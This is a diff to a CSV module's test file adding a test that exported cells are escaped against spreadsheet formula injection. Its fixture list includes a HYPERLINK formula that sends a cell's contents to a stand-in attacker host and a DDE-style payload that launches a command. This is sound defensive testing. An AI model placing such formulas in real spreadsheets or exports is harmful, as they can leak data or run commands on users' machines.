@@ -1,5 +1,23 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { CsvError, parseCsv } from '../../import/csv.js';
+import { CsvError, parseCsv, writeCsv } from '../../import/csv.js';
+
+/** Cells a spreadsheet program would run as formulas (OWASP: = + - @, tab, CR), and near misses. */
+const FORMULA_CELLS = [
+  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+  '=1+1\nsecond line',
+  '+1 555 0100',
+  '-5% off today',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  '\tindented',
+  '\rcarriage',
+  "'=already quoted by hand",
+  "''+two apostrophes",
+  "'just an apostrophe",
+  "'",
+  'plain = not at the start',
+  '',
+];
 
 describe('parseCsv', () => {
   it('reads quoted cells with commas, escaped quotes and line breaks', () => {
@@ -44,5 +62,16 @@ describe('parseCsv', () => {
       ['1', '2'],
     ]);
     expect(parseCsv('')).toEqual([]);
+  });
+});
+
+describe('writeCsv and formulas', () => {
+  it('starts no cell with a formula character, and reads every cell back exactly', () => {
+    const rows = FORMULA_CELLS.map((text) => ({ text, other: text }));
+    const csv = writeCsv(['text', 'other'], rows);
+    // As a spreadsheet program sees the file: no unescaping.
+    const raw = Papa.parse<string[]>(csv, { skipEmptyLines: false }).data.flat();
+    for (const cell of raw) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+    expect(parseCsv(csv).slice(1)).toEqual(FORMULA_CELLS.map((t) => [t, t]));
   });
 });
